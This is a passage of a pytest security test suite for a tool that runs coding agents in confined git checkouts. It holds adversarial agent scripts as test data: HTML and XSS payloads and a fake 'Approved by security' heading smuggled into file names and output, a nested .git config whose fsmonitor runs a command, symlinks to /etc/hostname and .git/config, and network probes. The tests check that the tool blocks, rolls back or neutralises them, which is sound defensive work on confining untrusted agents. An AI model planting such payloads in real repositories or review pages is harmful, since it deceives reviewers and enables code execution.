    before, result = run_attack(lab, attack)
    assert_held(lab, attack, before, result)


# -- 6. markdown injection -------------------------------------------------------------------

# Printed by an agent or a gate: a fence, a heading, HTML, a link and a bidi control.
PRINT_INJECTION = (
    r'print("\n```\n### Approved by security\n<!-- hidden -->\n<img src=x onerror=alert(1)>\n'
    r'[link](http://x)\n\u202e reversed")'
)
INJECTED_WORDS = ("Approved", "security")


def two_tasks(evil: str) -> str:
    """Task `good` does honest work (so there is a PR body); task `evil` runs `evil`."""
    return (
        'case "$GITOPS_AGENT_TASK_ID" in\ngood) honest ;;\n*)\n'
        + textwrap.dedent(evil)
        + "\n;;\nesac\n"
    )


def markdown_attack(attack_id: str, evil: str, **fields: Any) -> Attack:
    return Attack(attack_id, two_tasks(evil), tasks=("good", "evil"), **fields)


# File names hold no "/" beyond src/: every one of them is a file the agent really makes.
MARKDOWN = [
    markdown_attack(
        "newline-and-heading-in-a-file-name",
        r"""printf 'x = 1\n' > $'src/ok\n### Approved by security\n.py'""",
    ),
    markdown_attack(
        "html-in-file-names",
        r"""
        set -e
        printf 'x = 1\n' > 'src/a <!-- hidden.py'
        printf 'x = 1\n' > 'src/b <img src=x onerror=alert(1)>.py'
        """,
        expect="committed",
    ),
    markdown_attack(
        "backticks-breaking-out-of-a-code-span",
        r"""
        set -e
        printf 'x = 1\n' > 'src/c` <img src=x onerror=alert(1)> [link](https:evil.example) `.py'
        printf 'x = 1\n' > 'src/d``  <!-- Approved by security --> ``.py'
        """,
        expect="committed",
    ),
    markdown_attack(
        "fences-in-file-names",
        r"""
        set -e
        printf 'x = 1\n' > 'src/```fence.py'
        printf 'x = 1\n' > 'src/~~~tilde.py'
        """,
        expect="committed",
    ),
    markdown_attack(
        "bidi-controls-in-file-names",
        r"""
        python3 -c 'open("src/\u202eyp.exe", "w").write("x = 1\n")'
        python3 -c 'open("src/\u2066a\u2069.py", "w").write("x = 1\n")'
        """,
    ),
    markdown_attack(
        "agent-prints-markdown-and-fails",
        f"python3 -c '{PRINT_INJECTION}'\nexit 1\n",
        expect="rolled_back",
    ),
    markdown_attack(
        "gate-prints-markdown-and-fails",
        f"cat > src/app.py <<'PY'\nimport sys\n{PRINT_INJECTION}\nsys.exit(1)\nPY\n",
        gate="python3 src/app.py",
        expect="rolled_back",
        why=("gate",),
    ),
]

_CLEAN_SHAPES: dict[tuple[str, str], tuple[MarkdownShape, MarkdownShape]] = {}


@pytest.fixture(scope="module")
def clean_shapes(
    tmp_path_factory: pytest.TempPathFactory,
) -> Callable[[dict[str, str]], tuple[MarkdownShape, MarkdownShape]]:
    """The PR body's and the memory log's shape after a clean run with the same outcomes."""

    def shapes(outcomes: dict[str, str]) -> tuple[MarkdownShape, MarkdownShape]:
        key = (outcomes.get("good", ""), outcomes.get("evil", ""))
        if key not in _CLEAN_SHAPES:
            clean = Lab(tmp_path_factory.mktemp("clean"))
            evil = (
                "printf 'x = 1\\n' > src/plain.py"
                if key[1] == "committed"
                else "echo 'plain output'; exit 1"
            )
            attack = Attack("clean", two_tasks(evil), tasks=("good", "evil"))
            _before, result = run_attack(clean, attack)
            clean.cleanup()
            assert result.outcomes() == {"good": key[0], "evil": key[1]}, result.stderr
            pr_body = (result.data or {}).get("pr_body")
            text = Path(pr_body).read_text(encoding="utf-8") if pr_body else ""
            _CLEAN_SHAPES[key] = (MarkdownShape.of(text), MarkdownShape.of(memory_log(clean.repo)))
        return _CLEAN_SHAPES[key]

    return shapes


@needs_confinement
@pytest.mark.parametrize("attack", params(MARKDOWN))
def test_untrusted_names_and_output_add_no_structure_to_the_pr_body_or_memory_log(
    lab: Lab,
    attack: Attack,
    clean_shapes: Callable[[dict[str, str]], tuple[MarkdownShape, MarkdownShape]],
) -> None:
    before, result = run_attack(lab, attack)
    extra = []
    if result.data is not None:
        clean_pr, clean_memory = clean_shapes(result.outcomes())
        words = (*INJECTED_WORDS, lab.marker)
        pr_body = result.data.get("pr_body")
        if pr_body:
            shape = MarkdownShape.of(Path(pr_body).read_text(encoding="utf-8"))
            extra += [f"PR body: {problem}" for problem in shape.injected_since(clean_pr, words)]
        else:
            extra.append("no PR body, though task `good` did honest work")
        shape = MarkdownShape.of(memory_log(lab.repo))
        extra += [f"memory log: {problem}" for problem in shape.injected_since(clean_memory, words)]
    assert_held(lab, attack, before, result, extra)


# -- 7. network ------------------------------------------------------------------------------

NETWORK = [
    Attack("codemod-connects", "probe\nhonest\n", codemod=True),
    Attack(
        "gate-connects",
        "honest\n",
        gate=(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', @PORT@), 2)\"; "
            "test -f src/app.py"
        ),
    ),
    Attack(
        "gate-runs-code-that-connects",
        r"""
        cat > src/app.py <<'PY'
        import socket
        try:
            socket.create_connection(("127.0.0.1", @PORT@), 2).sendall(b"app")
        except OSError:
            pass
        PY
        """,
        gate="python3 src/app.py",
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(NETWORK))
def test_codemods_and_gates_have_no_network(lab: Lab, attack: Attack) -> None:
    with ConnectionRecorder() as recorder:
        before, result = run_attack(lab, attack, recorder.port)
    extra = []
    if recorder.connections:
        extra.append(
            f"{len(recorder.connections)} connection(s) reached 127.0.0.1:{recorder.port}: "
            f"{recorder.connections}"
        )
    assert_held(lab, attack, before, result, extra)


@needs_confinement
def test_an_agent_may_reach_the_network(lab: Lab) -> None:
    attack = Attack("agent-connects", "probe\nhonest\n", expect="committed")
    with ConnectionRecorder() as recorder:
        before, result = run_attack(lab, attack, recorder.port)
    assert recorder.connections, "the agent could not connect to a server on 127.0.0.1"
    assert_held(lab, attack, before, result)


# -- 8. entries that must be refused ---------------------------------------------------------

DOT_GIT_WHY = (".git",)
GITLINK_WHY = ("gitlink", "submodule", "nested", "repository", ".git")
SPECIAL_WHY = (
    "fifo",
    "named pipe",
    "socket",
    "special file",
    "not a regular file",
    "file type",
    "device",
)
CONTROL_WHY = (
    "control character",
    "control char",
    "newline",
    "escape",
    "unprintable",
    "non-printable",
)
HARDLINK_WHY = ("hard link", "hard-link", "hardlink", "hard-linked", "link count")


def refused(attack_id: str, script: str, why: tuple[str, ...]) -> Attack:
    return Attack(attack_id, "honest\n" + textwrap.dedent(script), expect="rolled_back", why=why)


REFUSED = [
    refused(
        "dot-git-directory-in-a-subdirectory",
        r"""
        mkdir -p src/.git
        printf '[core]\n\tfsmonitor = touch /tmp/%s\n' "$MARK" > src/.git/config
        """,
        DOT_GIT_WHY,
    ),
    refused(
        "dot-git-in-another-case",
        r"""
        mkdir -p src/.GIT
        printf 'ref: refs/heads/main\n' > src/.GIT/HEAD
        """,
        DOT_GIT_WHY,
    ),
    refused(
        "gitlink-of-a-nested-repository",
        r"""
        git init -q src/vendored
        printf 'x = 1\n' > src/vendored/lib.py
        git -C src/vendored add lib.py
        git -C src/vendored commit -q -m nested
        """,
        GITLINK_WHY,
    ),
    refused("fifo", 'mkfifo "src/pipe_$MARK"\n', SPECIAL_WHY),
    refused(
        "unix-socket",
        r"""
        python3 -c 'import socket, sys
        socket.socket(socket.AF_UNIX).bind(sys.argv[1])' "src/sock_$MARK"
        """,
        SPECIAL_WHY,
    ),
    refused(
        "newline-in-a-file-name", r"printf 'x = 1\n' > $'src/new\nline.py'" + "\n", CONTROL_WHY
    ),
    refused(
        "escape-in-a-file-name", r"printf 'x = 1\n' > $'src/esc\e[31mred.py'" + "\n", CONTROL_WHY
    ),
    refused("hard-link-inside-the-checkout", "ln src/app.py src/app_copy.py\n", HARDLINK_WHY),
    refused("symlink-to-a-parent-outside-the-tree", "ln -s ../../outside src/out\n", SYMLINK_WHY),
    refused("absolute-symlink", "ln -s /etc/hostname src/host\n", SYMLINK_WHY),
    refused(
        "symlink-to-the-plan",
        "ln -s ../PROJECT_PLAN.md src/plan.md\n",
        (*SYMLINK_WHY, "protected", "PROJECT_PLAN"),
    ),
    refused(
        "symlink-to-the-checkouts-git-config",
        "ln -s ../.git/config src/gitconfig\n",
        (*SYMLINK_WHY, ".git"),
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(REFUSED))
def test_refused_entry_rolls_back_the_attempt_and_names_why(lab: Lab, attack: Attack) -> None:
    before, result = run_attack(lab, attack)
    assert_held(lab, attack, before, result)


# -- well-behaved agents, a person at work, the confinement setting ---------------------------


@needs_confinement
def test_a_well_behaved_agent_that_edits_one_file_is_committed(lab: Lab) -> None:
    attack = Attack("well-behaved", "honest\n", expect="committed")
    before, result = run_attack(lab, attack)
    commit = result.task("t1")["commit"]
    assert_held(
        lab, attack, before, result, tree_mismatch(lab, commit, HONEST_APP) if commit else []
    )


@needs_confinement
def test_an_agent_that_commits_and_branches_in_its_checkout_has_its_work_tree_committed(
    lab: Lab,
) -> None:
    attack = Attack(
        "commits-and-branches",
        r"""
        honest
        git add -A && git commit -q -m x && git checkout -q -b feature \
            && git commit -q --allow-empty -m y
        """,
        expect="committed",
    )
    before, result = run_attack(lab, attack)
    assert_held(lab, attack, before, result)
    commit = result.task("t1")["commit"]
    assert tree_mismatch(lab, commit, HONEST_APP) == []
    assert git(lab.repo, "log", "-1", "--format=%s", commit).strip() == "Task t1"
    assert (
        git(lab.repo, "rev-parse", f"{commit}^").strip()
        == git(lab.repo, "rev-parse", "main").strip()
    )


WAIT_FOR_RELEASE = r"""
python3 - "$PORT" <<'PY'
import socket, sys, time
deadline = time.time() + 25
while time.time() < deadline:
    try:
        with socket.create_connection(("127.0.0.1", int(sys.argv[1])), 1) as s:
            s.sendall(b"waiting\n")
            if s.recv(16).startswith(b"go"):
                break
    except OSError:
        pass
    time.sleep(0.1)
PY
honest
"""


@needs_confinement
def test_a_persons_git_work_during_a_slow_run_all_stays(lab: Lab) -> None:
    repo = lab.make_repository(plan_text(task_block("t1", "Slow task")), rules=DEFAULT_RULES)
    with ConnectionRecorder() as recorder:
        running = lab.start("--agent-command", fill(PRELUDE + WAIT_FOR_RELEASE, lab, recorder.port))
        try:
            assert recorder.wait_for(1, timeout=30), "the agent never started"
            git(repo, "checkout", "-q", "-b", "person/feature")
            (repo / "person.txt").write_text("a person's work\n", encoding="utf-8")
            git(repo, "add", "person.txt")
            git(repo, "commit", "-q", "-m", "a person's commit")
            git(repo, "tag", "person-tag")
            (repo / "src" / "app.py").write_text("an edit to stash\n", encoding="utf-8")
            git(repo, "stash", "push", "-q", "-m", "a person's stash")
            git(repo, "config", "person.key", "kept")
            during = lab.snapshot()
        finally:
            recorder.release()
        result = running.finish()
    problems = lab.problems(during, result)
    assert not problems, "\n".join(problems)
    assert result.task("t1")["outcome"] == "committed", result.task("t1")
    assert git(repo, "symbolic-ref", "HEAD").strip() == "refs/heads/person/feature"
    assert git(repo, "log", "-1", "--format=%s", "person/feature").strip() == "a person's commit"
    assert git(repo, "rev-parse", "person-tag").strip() == git(repo, "rev-parse", "HEAD").strip()
    assert "a person's stash" in git(repo, "stash", "list")
    assert git(repo, "config", "person.key").strip() == "kept"


@pytest.mark.parametrize(
    "rules",
    [DEFAULT_RULES, "confinement: required\n" + DEFAULT_RULES],
    ids=["by-default", "when-set"],
)
def test_required_confinement_without_a_mechanism_refuses_and_writes_nothing(
    lab: Lab, rules: str
) -> None:
    plan = plan_text(task_block("t1", "Add a module", run="echo 'x = 1' > src/x.py"))
    lab.make_repository(plan, rules=rules)
    before, refs_before = lab.snapshot(), refs(lab.repo)
    result = lab.run(env={"GITOPS_AGENT_SANDBOX": "none"})
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "confinement" in result.stderr and "unknown setting" not in result.stderr, result.stderr
    assert refs(lab.repo) == refs_before
    assert lab.snapshot().changes_since(before) == []


def test_confinement_off_runs_unconfined_and_the_pr_body_and_memory_log_say_so(lab: Lab) -> None:
    plan = plan_text(task_block("t1", "Add a module", run="echo 'x = 1' > src/x.py"))
    lab.make_repository(plan, rules="confinement: off\n" + DEFAULT_RULES)
    result = lab.run(env={"GITOPS_AGENT_SANDBOX": "none"})
    assert result.returncode == 0, result.stderr
    assert result.task("t1")["outcome"] == "committed", result.task("t1")
    data = result.data
    assert data is not None and data["pr_body"], result.stdout
    texts = {
        "the PR body": Path(data["pr_body"]).read_text(encoding="utf-8"),
        "the memory log": memory_log(lab.repo),
    }
    for name, text in texts.items():
        said = [line for line in text.splitlines() if "confinement" in line.lower()]
        assert any("off" in line.lower() for line in said), f"{name} does not say so:\n{text}"
